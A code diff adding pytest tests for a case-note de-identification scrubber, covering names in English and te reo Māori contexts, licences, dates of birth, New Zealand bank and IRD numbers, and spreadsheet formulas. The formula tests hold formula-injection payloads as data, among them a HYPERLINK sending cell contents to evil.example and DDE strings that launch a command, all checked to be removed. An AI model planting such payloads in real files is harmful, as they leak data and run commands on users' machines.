@@ -149,8 +149,9 @@ def test_when_a_local_spacy_model_is_configured_then_its_person_entities_are_scr
     nlp.add_pipe("entity_ruler").add_patterns([{"label": "PERSON", "pattern": "Zephyrine"}])
     nlp.to_disk(tmp_path / "model")
     configured = _standards_with(standards, tmp_path, f"ner_model_path: {tmp_path / 'model'}\n")
-    assert Scrubber(standards).scrub("Spoke with Zephyrine today")[0] == "Spoke with Zephyrine today"
-    assert Scrubber(configured).scrub("Spoke with Zephyrine today")[0] == "Spoke with <PERSON> today"
+    # No cue, not in the lexicon, at the start of a sentence: only the model takes it for a name.
+    assert Scrubber(standards).scrub("Zephyrine today")[0] == "Zephyrine today"
+    assert Scrubber(configured).scrub("Zephyrine today")[0] == "<PERSON> today"
 
 
 def test_when_the_configured_model_is_missing_then_the_error_names_the_file_and_field(standards, tmp_path):
@@ -160,3 +161,142 @@ def test_when_the_configured_model_is_missing_then_the_error_names_the_file_and_
     configured = _standards_with(standards, tmp_path, "ner_model_path: /nowhere/model\n")
     with pytest.raises(ScrubError, match=r"recognizers.yaml: field 'ner_model_path' is '/nowhere/model'.*nothing is downloaded"):
         Scrubber(configured)
+
+
+@pytest.mark.parametrize("text, expected", [
+    ('=HYPERLINK("http://evil.example/?d="&A2,"Click for results")', "<FORMULA>"),
+    ("@SUM(1+1)", "<FORMULA>"),
+    ("=cmd|' /C calc'!A0", "<FORMULA>"),
+    ("-2+3+cmd|' /C calc'!A0", "<FORMULA>"),
+    ("+SUM(A1:A3)*2", "<FORMULA>"),
+    ('Called mum. =IMPORTXML(CONCAT("http://x.example/?",B2),"//a") then left', "Called mum. <FORMULA> then left"),
+    ("Good session\n=1+1\nnext week", "Good session\n<FORMULA>\nnext week"),
+])
+def test_when_a_note_holds_a_spreadsheet_formula_then_it_is_replaced(scrubber, text, expected):
+    assert scrubber.scrub(text)[0] == expected
+
+
+@pytest.mark.parametrize("text", [
+    "- attended group\n+ve progress this week",
+    "score went -2 to +3; 2 sessions (of 8) left",
+    "=> refer to GP",
+    "ex-partner(s) visited",
+    "- see GP (Tue)",
+])
+def test_when_a_note_only_looks_like_arithmetic_then_it_survives(scrubber, text):
+    assert scrubber.scrub(text)[0] == text
+
+
+def test_when_case_notes_hold_formula_payloads_then_no_scrubbed_note_carries_them(scrubber):
+    import polars as pl
+
+    from deid.safe_text import is_formula_shaped
+    from deid.scrub.scrub import scrub_notes
+
+    notes = ['=HYPERLINK("http://x.example/?q=ZZZ0016","Results")', "@SUM(1+1)", "Home visit went well."]
+    scrubbed, result = scrub_notes(pl.DataFrame({"case_notes": notes}), scrubber)
+    out = scrubbed.get_column("case_notes_scrubbed").to_list()
+    assert out == ["<FORMULA>", "<FORMULA>", "Home visit went well."]
+    assert not any(is_formula_shaped(n) for n in out) and result.entities.get("SPREADSHEET_FORMULA") == 2
+
+
+# --- issue 15: names without the record, te reo kept, identifier forms -------------------------
+
+@pytest.mark.parametrize("text, expected", [
+    ("Spoke with aroha about the week.", "Spoke with <PERSON> about the week."),          # lower case after a person verb
+    ("Rang sefo re the hui.", "Rang <PERSON> re the hui."),                              # on no list, after a verb
+    ("Whaea awhina called about kai.", "Whaea <PERSON> called about kai."),              # te reo word after a title
+    ("Her partner TAMA is working.", "Her partner <PERSON> is working."),
+    ("Texted Ora a reminder.", "Texted <PERSON> a reminder."),
+    ("Then Viliami said things are better.", "Then <PERSON> said things are better."),
+    ("Home visit with Te Ariki Tamihana.", "Home visit with <PERSON>."),
+    ("Saw Jane Te Hira in town.", "Saw <PERSON> in town."),
+    ("Client TE HIRA, Ataahua seen today.", "Client <PERSON> seen today."),
+    ("NGUYỄN, Ryan seen today.", "<PERSON> seen today."),
+    ("Met Jessica and the kids.", "Met <PERSON> and the kids."),                       # outside lexicon
+    ("Went with Jessica to WINZ.", "Went with <PERSON> to WINZ."),
+])
+def test_when_a_note_names_someone_the_record_does_not_then_the_name_is_replaced(scrubber, text, expected):
+    assert scrubber.scrub(text)[0] == expected
+
+
+@pytest.mark.parametrize("text", [
+    "Showed a lot of aroha to the tamariki.",
+    "Wants to keep her mana intact.",
+    "Dropped off a kai parcel. The whānau is settled.",
+    "Kai parcel dropped off.",
+    "Aroha in the whare was clear.",
+    "Attended Te Ara Hou group this week.",
+    "Kia Māia session 4 of 8 completed.",
+    "Referred to Te Kākano by the GP.",
+    "Whānau Tahi session 4 of 8 completed.",
+    "Referral sent to Aroha Whānau Trust.",
+    "Tui Ora will help with housing.",
+    "Met worker from Oranga Tamariki at the house. Te Ara Hou starts Monday.",
+    "Spoke with whānau about the hui.",
+    "Invoice 49091850 paid.",                     # a valid IRD check digit, but an invoice
+    "Receipt no. 033055080 for the power bill.",  # looks like a Christchurch landline
+    "Food grant of $7,830.74.",
+    "Next visit 13 May 2026 at 10:30am.",
+])
+def test_when_te_reo_programmes_or_references_are_written_then_they_survive(scrubber, text):
+    assert scrubber.scrub(text)[0] == text
+
+
+@pytest.mark.parametrize("text, expected", [
+    # A client called Aroha: a person where the context says so, the word elsewhere.
+    ("Aroha said things are better.", "<PERSON> said things are better."),
+    ("Spoke with Aroha Ngata today.", "Spoke with <PERSON> today."),
+    ("Went with Aroha to WINZ.", "Went with <PERSON> to WINZ."),
+    ("Mum thanked us; Aroha's car is fixed.", "Mum thanked us; <PERSON>'s car is fixed."),
+    ("Showed a lot of aroha to the tamariki.", "Showed a lot of aroha to the tamariki."),
+    ("Keen to start Aroha Mai next term.", "Keen to start Aroha Mai next term."),
+    ("Letter from Aroha Whānau Trust received.", "Letter from Aroha Whānau Trust received."),
+    # A client called Mana: the word in "mana of the whānau" stays.
+    ("Spoke about the mana of the whānau.", "Spoke about the mana of the whānau."),
+    ("Talked to Mana and Karaka by phone.", "Talked to <PERSON> and <PERSON> by phone."),
+    ("Mana Tāne group this week.", "Mana Tāne group this week."),
+    # Every part of the name is also a word: side by side, not all in lower case, they are a name.
+    ("Saw Aroha TE RANGI at the clinic.", "Saw <PERSON> at the clinic."),
+    ("Aroha TE RANGI seen today.", "<PERSON> seen today."),
+    ("Aroha Te Rangi reports less stress.", "<PERSON> reports less stress."),
+    ("te rangi was clear", "te rangi was clear"),
+    # A client called May: a month stays a month.
+    ("Next visit 8 May 2026.", "Next visit 8 May 2026."),
+])
+def test_when_a_known_name_is_also_a_te_reo_or_english_word_then_context_decides(scrubber, text, expected):
+    known = scrubber.known_names(["Aroha Ngata", "Mana Karaka", "May Walker", "Aroha Te Rangi"])
+    assert scrubber.scrub(text, known)[0] == expected
+
+
+@pytest.mark.parametrize("text, expected", [
+    ("Driver licence UW 655820 sighted.", "Driver licence <DRIVER_LICENCE> sighted."),
+    ("Licence no. UW-655820", "Licence no. <DRIVER_LICENCE>"),
+    ("DL uw655820 checked", "DL <DRIVER_LICENCE> checked"),
+    ("born 12th May 2017.", "born <DOB>."),
+    ("Date of birth: 3rd of March 2019", "Date of birth: <DOB>"),
+    ("DOB May 12, 2017", "DOB <DOB>"),
+    ("Pēpi born on the 4th of July 2020", "Pēpi born on the <DOB>"),
+])
+def test_when_licences_and_dates_of_birth_are_written_in_other_forms_then_they_are_replaced(scrubber, text, expected):
+    assert scrubber.scrub(text)[0] == expected
+
+
+def _valid_account(separator: str) -> str:
+    from stdnum.nz import bankaccount
+
+    for n in range(10_000):
+        candidate = f"01-0902-{n:07d}-00"
+        if bankaccount.is_valid(candidate):
+            parts = candidate.split("-")
+            return {"-": candidate, " ": " ".join(parts), "": "".join(parts), "mixed": f"{parts[0]}{parts[1]}-{parts[2]}-{parts[3]}"}[separator]
+    raise AssertionError("no valid account found")
+
+
+@pytest.mark.parametrize("separator", ["-", " ", "", "mixed"])
+def test_when_a_bank_account_is_written_with_any_separators_then_it_is_replaced(scrubber, separator):
+    assert scrubber.scrub(f"Paid into {_valid_account(separator)} today")[0] == "Paid into <BANK_ACCOUNT> today"
+
+
+def test_when_an_ird_cue_and_a_reference_cue_are_both_there_then_the_ird_number_is_replaced(scrubber):
+    assert scrubber.scrub("Ref: IRD 49-091-850")[0] == "Ref: IRD <IRD>"
